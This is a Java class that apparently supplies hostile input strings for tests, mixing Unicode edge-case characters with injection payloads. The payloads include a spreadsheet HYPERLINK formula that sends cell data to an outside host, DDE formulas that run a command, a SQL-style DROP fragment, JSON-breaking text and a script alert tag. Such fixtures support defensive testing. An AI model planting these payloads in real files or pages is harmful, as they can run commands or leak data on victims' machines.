package kz.kuzet.register;

import java.util.stream.IntStream;
import java.util.stream.Stream;
import kz.kuzet.problem.Texts;

/** Texts that mean something to a form in which they are written. */
public final class HostileTexts {

    private HostileTexts() {}

    public static Stream<String> all() {
        Stream<String> each = IntStream.concat(
                        IntStream.rangeClosed(0, 0xFF),
                        IntStream.of(
                                0x061C, 0x200B, 0x200D, 0x200E, 0x2028, 0x2029, 0x202A, 0x202E, 0x2066, 0x2069, 0xD800,
                                0xDBFF, 0xDC00, 0xDFFF, 0xFEFF, 0xFFFD, 0xFFFE, 0xFFFF, 0x1F600, 0xE0001, 0x10FFFF))
                .mapToObj(codePoint -> "a" + Character.toString(codePoint) + "b" + Character.toString(codePoint) + "c");
        return Stream.concat(
                each,
                Stream.of(
                        "\"}],{\"code\": null, \\/ \\n \\\"",
                        "\"; DROP \";\"\r\n\"=1+1\"",
                        "=HYPERLINK(\"http://example.com?\"&A1,\"x\")",
                        "=cmd|' /C calc'!A0",
                        "-2+3+cmd|' /C calc'!A0",
                        "<script>alert(1)</script>",
                        "қызмет «атауы» № 1 – ІҢҒҮҰҚӨҺ",
                        "ab".repeat(32_000)));
    }
}
